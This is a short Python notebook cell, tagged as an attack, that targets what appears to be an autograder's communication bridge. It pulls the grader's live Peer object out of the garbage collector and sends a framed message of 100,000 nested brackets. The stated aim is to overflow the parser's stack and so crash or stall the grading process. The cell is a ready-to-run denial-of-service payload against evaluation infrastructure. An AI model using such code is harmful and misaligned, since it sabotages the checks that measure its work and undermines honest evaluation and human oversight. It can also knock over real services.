# %% [markdown]
# JSON that is nested a hundred thousand times, for the parser's stack.

# %% attack="last"
import gc

from autograder.bridge.codec import Writer
from autograder.bridge.peer import Peer, TimeLimit

peer = next(each for each in gc.get_objects() if type(each) is Peer)
text = b'{"reply": 1, "value": ' + b"[" * 100_000
peer.channel.send(len(text).to_bytes(4, "big") + bytes(4) + text)
